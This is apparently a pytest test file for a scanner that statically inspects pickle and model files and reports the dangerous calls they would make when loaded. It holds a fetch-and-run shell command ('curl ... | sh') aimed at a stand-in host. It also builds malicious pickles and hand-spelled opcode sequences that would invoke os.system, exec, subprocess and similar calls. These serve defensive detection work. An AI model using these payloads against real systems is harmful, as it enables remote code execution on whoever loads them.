"""Pickles: what they call when they are loaded is told, and nothing of them is loaded here."""

from __future__ import annotations

import collections
import datetime as dt
import functools
import gzip
import io
import pickle
import zipfile
import zlib
from fractions import Fraction

import pytest
from hypothesis import given
from hypothesis import strategies as st

from support.code import held, scan
from veln_hook.source.pickles import COMPUTED, examine_pickle, is_plain, may_be_pickle

COMMAND = "curl -s https://collect.example.net/x | sh"


class Calls:
    """Pickled as a call, which only loading would make."""

    def __init__(self, function, *arguments):
        self.made = (function, arguments)

    def __reduce__(self):
        return self.made


def named(data):
    return [placed.detail for placed in examine_pickle("acme/model.pkl", data)]


def torch_file(data, name="archive/data.pkl"):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        file.writestr(name, data)
        file.writestr("archive/data/0", b"\0" * 64)
    return made.getvalue()


def spelled(module, name, between=b""):
    """Return a pickle of protocol 4 that takes a global by two strings."""
    texts = [b"\x8c" + bytes((len(text),)) + text.encode() for text in (module, name)]
    return b"\x80\x04" + texts[0] + between + texts[1] + b"\x93\x8c\x02id\x85R."


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
@pytest.mark.parametrize(
    ("function", "name"),
    [
        (exec, "exec"),
        (eval, "eval"),
        (__import__("os").system, "system"),
        (__import__("subprocess").Popen, "subprocess.Popen"),
        (__import__("subprocess").check_output, "subprocess.check_output"),
        (__import__("runpy").run_path, "runpy.run_path"),
        (__import__("importlib").import_module, "importlib.import_module"),
        (__import__("webbrowser").open, "webbrowser.open"),
        (__import__("urllib.request").request.urlopen, "urllib.request.urlopen"),
    ],
)
def test_what_it_calls_is_told(function, name, protocol):
    data = pickle.dumps({"weights": [1.0, 2.0], "state": Calls(function, COMMAND)}, protocol)
    (told,) = named(data)
    # The oldest protocols have Python 2's names for modules.
    assert told.rpartition(".")[2] == name.rpartition(".")[2]
    assert COMMAND in examine_pickle("acme/model.pkl", data)[0].evidence


def test_nothing_is_loaded(tmp_path):
    there = tmp_path / "there"
    data = pickle.dumps(Calls(__import__("os").mkdir, str(there)))
    examine_pickle("acme/model.pkl", data)
    assert not there.exists()


@pytest.mark.parametrize(
    "data",
    [
        spelled("posix", "system"),
        spelled("nt", "system"),
        spelled("shutil", "os.system"),
        spelled("builtins", "exec"),
        spelled("__builtin__", "eval"),
        spelled("posix", "system", b"N0"),  # something is pushed and dropped between the two
        spelled("posix", "system", b"(0"),  # a mark
        b"\x80\x04\x8c\x06system\x940\x8c\x05posix\x94h\x00\x93\x8c\x02id\x85R.",  # out of the memo
        b"(S'id'\niposix\nsystem\n.",  # INST
        b"cposix\nsystem\n(S'id'\ntR.",
        b"\x80\x02]q\x00(K\x01K\x02ecposix\nsystem\nU\x02id\x85R.",
    ],
)
def test_however_it_is_spelled(data):
    assert len(named(data)) == 1


def test_a_name_that_is_computed_is_told():
    join = b"cbuiltins\nstr\n\x8c\x05posix\x85R"  # str('posix') is a call, so nobody knows
    assert named(b"\x80\x04" + join + b"\x8c\x06system\x93.") == [COMPUTED]


@pytest.mark.parametrize(
    "wrap",
    [
        torch_file,
        gzip.compress,
        zlib.compress,
        lambda data: torch_file(data, "data.pkl"),
        lambda data: data + b"\0" * 99,
    ],
)
def test_models_that_hold_a_pickle(wrap):
    assert named(wrap(pickle.dumps(Calls(exec, "import os")))) == ["builtins.exec"]


HONEST = [
    {"a": [1, 2.5, "os", "system", "exec", b"eval"], "posix": ("subprocess", "Popen")},
    collections.OrderedDict(a=1),
    dt.datetime(2026, 11, 29, tzinfo=dt.timezone.utc),
    [Fraction(1, 3)] * 3,
    functools.partial(int, base=2),
    {"text": "x" * 70_000, "set": {1, 2, 3}, "frozen": frozenset("abc"), "none": None, "big": 1 << 200},
    [[], (), {}, [[[1]]], bytearray(b"x"), complex(1, 2), range(3), slice(1, 2)],
    ["builtins", "exec"] * 3,
    len,
    pytest.approx,
]


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
@pytest.mark.parametrize("value", HONEST, ids=range(len(HONEST)))
def test_honest_ones_are_silent(value, protocol):
    data = pickle.dumps(value, protocol)
    assert named(data) == []
    assert named(torch_file(data)) == []


_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text() | st.binary() | st.datetimes(),
    lambda inner: (
        st.lists(inner)
        | st.tuples(inner, inner)
        | st.dictionaries(st.text(), inner)
        | st.frozensets(st.text())
        | st.sets(st.integers())
    ),
    max_leaves=30,
)


@given(_VALUES, st.integers(0, pickle.HIGHEST_PROTOCOL))
def test_no_plain_data_is_told(value, protocol):
    assert named(pickle.dumps([value, value], protocol)) == []


@given(st.binary(max_size=300))
def test_any_bytes_end(data):
    named(data)
    named(pickle.dumps(Calls(exec, "x"))[: len(data)] + data)
    named(torch_file(data))
    named(gzip.compress(data)[: 3 * len(data) // 2])


def test_what_stands_before_the_damage_counts():
    data = pickle.dumps([Calls(exec, "x"), list(range(500))])
    assert named(data[:-200]) == ["builtins.exec"]


@pytest.mark.parametrize(
    ("name", "head", "is_one"),
    [
        ("acme/m.pkl", b"cpos", True),
        ("acme/m.bin", b"\x80\x04\x95\0", True),
        ("acme/m.unheard-of", b"\x80\x02}q", True),
        ("acme/m.pt", b"PK\x03\x04", True),
        ("acme/m.bin", b"\x00\x01\x02\x03", False),
        ("acme/m.dat", b"cpos", False),
    ],
)
def test_it_is_known_by_its_bytes_or_its_name(name, head, is_one):
    assert may_be_pickle(name, head) is is_one


def test_what_is_no_pickle_is_not_looked_at():
    assert is_plain("acme/data.json")
    assert not is_plain("acme/data.unheard-of")


def test_a_package_with_one_is_held_and_with_an_honest_one_is_not():
    code = {
        "acme/__init__.py": "import pickle\n\nMODEL = pickle.load(open(__file__ + '/../model.dat', 'rb'))\n"
    }
    bad = pickle.dumps(Calls(__import__("os").system, COMMAND), 0).decode("ascii")
    good = pickle.dumps(HONEST[0], 0).decode("ascii")
    old = scan({**code, "acme/model.pkl": good})
    assert not held(old)
    assert held(scan({**code, "acme/model.pkl": bad})) == {"pickle-code"}
    assert held(scan({**code, "acme/model.pkl": bad}), old) == {"pickle-code"}
    assert not held(scan({**code, "acme/model.pkl": bad}), scan({**code, "acme/model.pkl": bad}))
